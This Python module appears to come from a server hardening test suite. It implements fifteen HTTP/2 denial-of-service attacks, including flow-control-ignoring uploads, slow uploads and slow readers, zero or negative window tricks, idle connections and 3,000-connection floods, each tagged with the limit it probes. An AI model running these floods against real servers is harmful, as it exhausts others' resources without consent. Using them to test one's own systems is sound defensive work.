"""Peers that are slow or say nothing: uploads that never end, answers that nobody reads, connections held open."""

import struct
import time
from collections.abc import Iterable
from typing import Final

from attacks.attack import LARGE, MANY, Attack, Report, Stage, get_state, replay
from attacks.raw_http2 import (
    FRAME_BYTES,
    LARGEST_WINDOW,
    PREFACE,
    Kind,
    Setting,
    call_block,
    frame,
    headers_frame,
    message,
    window_update,
)
from attacks.raw_peer import RawPeer

UPLOAD_BYTES: Final = 60 * 2**20
UPLOADS: Final = 4
MESSAGE_BYTES: Final = 4 * 2**20 - 64
"""A message that every limit lets pass."""
NO_WINDOW: Final[dict[int, int]] = {Setting.INITIAL_WINDOW_SIZE: 0}
WHOLE_WINDOW: Final[dict[int, int]] = {Setting.INITIAL_WINDOW_SIZE: LARGEST_WINDOW}
IDLE: Final = 500
CONNECTIONS: Final = 3_000
PATIENCE_S: Final = 10.0
BLOCK: Final = bytes(FRAME_BYTES)


def uploads_beyond_the_window(stage: Stage) -> Report:
    """4 x 60 MB on one connection, to calls that never end their request; flow control is ignored."""
    with stage.connect() as peer:
        streams = [peer.start("Commit") for _ in range(UPLOADS)]
        sent = 0
        for at in range(UPLOAD_BYTES // FRAME_BYTES):
            first = message(b"", length=MESSAGE_BYTES) if at == 0 else b""
            for stream_id in streams:
                if peer.closed or not peer.send(frame(Kind.DATA, 0, stream_id, first + BLOCK[len(first) :])):
                    break
                sent += FRAME_BYTES
        stage.rest()
    return Report(f"{sent >> 20} MiB sent{', then closed' if peer.closed else ''}")


def uploads_never_finished(stage: Stage) -> Report:
    """20 connections of 100 calls, each a message of 4 MiB less a byte, as far as flow control lets them."""
    return _uploads(stage, (stage.connect() for _ in range(20)), calls=100)


def uploads_on_one_connection(stage: Stage) -> Report:
    """4 calls of one connection that send messages without end, as far as flow control lets them."""
    return _uploads(stage, [stage.connect()], calls=UPLOADS)


def uploads_of_many_messages(stage: Stage) -> Report:
    """Many small messages to calls that take one."""
    small = message(b"x" * 100) * 100

    sent = 0
    with stage.connect() as peer:
        while not stage.over and not peer.closed:
            stream_id = peer.start("Write")
            for _ in range(5):
                peer.send(frame(Kind.DATA, 0, stream_id, small), stage.end_s)
                sent += 100
            peer.status(stream_id, 0.5)
    return Report(f"{sent} messages")


def slow_uploads(stage: Stage) -> Report:
    """50 connections that send a request at a byte every 50 ms, and never finish."""
    peers = [stage.connect() for _ in range(50)]
    for peer in peers:
        peer.send(frame(Kind.DATA, 0, peer.start("Write"), message(b"", length=100_000)))
    while not stage.over:
        for peer in peers:
            peer.send(frame(Kind.DATA, 0, 1, b"x"), stage.end_s)
        time.sleep(0.05)
    return _close(peers)


def zero_window_reads(stage: Stage) -> Report:
    """100 reads of a value of 1 MiB on each of 4 connections, with windows of 0: the answers have nowhere to go."""
    return _reads(stage, (stage.connect(wanted=NO_WINDOW) for _ in range(4)), 100, ("GetState", get_state(*LARGE)))


def zero_window_replays(stage: Stage) -> Report:
    """100 Replays on each of 10 connections, with windows of 0."""
    return _reads(stage, (stage.connect(wanted=NO_WINDOW) for _ in range(10)), 100, ("Replay", replay(MANY)))


def window_taken_back(stage: Stage) -> Report:
    """Replays under way whose windows SETTINGS turns negative, again and again."""
    with stage.connect() as peer:
        for _ in range(20):
            peer.call("Replay", replay(MANY))
        changes = 0
        while not stage.over and not peer.closed:
            for size in (0, 65_535):
                peer.send(frame(Kind.SETTINGS, payload=struct.pack(">HI", Setting.INITIAL_WINDOW_SIZE, size)))
                peer.read_for(0.02)
                changes += 1
    return Report(f"{changes} changes")


def slow_readers(stage: Stage) -> Report:
    """Replays and large reads whose reader gives a byte of window every 50 ms."""
    peers = [stage.connect(wanted=NO_WINDOW) for _ in range(20)]
    for peer in peers:
        peer.returns_credit = False
        peer.call("Replay", replay(MANY))
        peer.call("GetState", get_state(*LARGE))
    while not stage.over:
        for peer in peers:
            peer.send(window_update(1, 1) + window_update(3, 1), stage.end_s)
            peer.take()
        time.sleep(0.05)
    return _close(peers)


def stops_reading(stage: Stage) -> Report:
    """Windows of 2 GiB, a hundred Replays and large reads, and a socket that is never read."""
    peers = []
    for _ in range(10):
        peer = stage.connect(wanted=WHOLE_WINDOW, reads=False, receive_buffer_bytes=4_096)
        peer.send(window_update(0, LARGEST_WINDOW - 65_535))
        peers.append(peer)
    return _reads(stage, peers, 50, ("Replay", replay(MANY)), ("GetState", get_state(*LARGE)))


def asks_and_never_reads(stage: Stage) -> Report:
    """Small calls without end by a peer that never reads its socket."""
    sent = 0
    with stage.connect(reads=False, receive_buffer_bytes=4_096) as peer:
        while not stage.over and not peer.closed:
            sent += 1
            peer.send(b"" if stage.over else _whole(peer, "Version", b""), stage.end_s)
    return Report(f"{sent} calls")


def silence(stage: Stage) -> Report:
    """500 connections that say nothing, half a preface, or the preface and nothing more."""
    peers = [stage.connect(preface=False) for _ in range(IDLE)]
    for number, peer in enumerate(peers):
        peer.send((b"", PREFACE[:12], PREFACE)[number % 3])
    stage.rest()
    return _close(peers)


def idle_connections(stage: Stage) -> Report:
    """500 connections that have made a call, and then nothing."""
    peers = [stage.connect() for _ in range(IDLE)]
    for peer in peers:
        peer.call("Version")
    for peer in peers:
        peer.status(1, 5.0)
    stage.rest()
    return _close(peers)


def connection_flood(stage: Stage) -> Report:
    """3,000 connections, opened as fast as they are taken, held until the end."""
    peers, refused = [], 0
    for _ in range(CONNECTIONS):
        try:
            peers.append(stage.connect())
        except OSError:
            refused += 1
    stage.rest()
    for peer in peers:
        peer.take()
    report = _close(peers)
    report.note += f", {refused} refused"
    return report


def connection_flood_with_calls(stage: Stage) -> Report:
    """3,000 connections, each with a Replay that it gives no window to, so that none of them is idle."""
    peers, refused = [], 0
    for _ in range(CONNECTIONS):
        try:
            peers.append(stage.connect(wanted=NO_WINDOW))
            peers[-1].call("Replay", replay(MANY))
        except OSError:
            refused += 1
    stage.rest()
    report = _close(peers)
    report.note += f", {refused} refused"
    return report


def _uploads(stage: Stage, connected: Iterable[RawPeer], calls: int) -> Report:
    """On each connection, `calls` requests that want UPLOAD_BYTES each in messages of MESSAGE_BYTES, within windows."""
    content, sent = message(b"", length=MESSAGE_BYTES) + bytes(MESSAGE_BYTES), 0
    peers = list(connected)
    streams = {peer: [peer.start("Write") for _ in range(calls)] for peer in peers}
    done: dict[tuple[RawPeer, int], int] = {}
    while not stage.over:
        for peer, stream_ids in streams.items():
            for stream_id in stream_ids:
                so_far = done.get((peer, stream_id), 0)
                if so_far < UPLOAD_BYTES and stream_id not in peer.over and not peer.closed:
                    room = peer.upload(stream_id, content[so_far % len(content) :][: 16 * FRAME_BYTES], stage.end_s)
                    done[peer, stream_id] = so_far + room
                    sent += room
            peer.take()
    report = _close(peers)
    report.note += f", {sent / 2**20:.1f} MiB sent"
    return report


def _whole(peer: RawPeer, path: str, content: bytes) -> bytes:
    stream_id = peer.new_stream()
    return headers_frame(stream_id, call_block(path)) + frame(Kind.DATA, 1, stream_id, message(content))


def _reads(stage: Stage, connected: Iterable[RawPeer], calls: int, *asked: tuple[str, bytes]) -> Report:
    """On each connection so many times all that is asked; what comes stays unread but for the frames' headers."""
    peers = list(connected)
    for peer in peers:
        peer.returns_credit = False
        peer.send(b"".join(_whole(peer, *each) for _ in range(calls) for each in asked), stage.end_s + PATIENCE_S)
    stage.rest()
    return _close(peers)


def _close(peers: list[RawPeer]) -> Report:
    for peer in peers:
        peer.take()
    closed = sum(peer.closed for peer in peers)
    for peer in peers:
        peer.close()
    return Report(f"{len(peers)} connections, {closed} closed by the server")


SLOW: Final = "unbounded output; slow readers"
UPLOAD: Final = "4 x 60 MB sent to handlers that do not read"
IDLERS: Final = "500 idle connections"
ATTACKS: Final = (
    Attack(uploads_beyond_the_window, UPLOAD),
    Attack(uploads_on_one_connection, UPLOAD),
    Attack(uploads_never_finished, UPLOAD),
    Attack(uploads_of_many_messages, UPLOAD),
    Attack(slow_uploads, UPLOAD),
    Attack(zero_window_reads, SLOW),
    Attack(zero_window_replays, SLOW),
    Attack(window_taken_back, SLOW),
    Attack(slow_readers, SLOW),
    Attack(stops_reading, SLOW),
    Attack(asks_and_never_reads, SLOW),
    Attack(silence, IDLERS),
    Attack(idle_connections, IDLERS),
    Attack(connection_flood, "a connection cap", fills=True),
    Attack(connection_flood_with_calls, "a connection cap; a global cap on calls", fills=True),
)
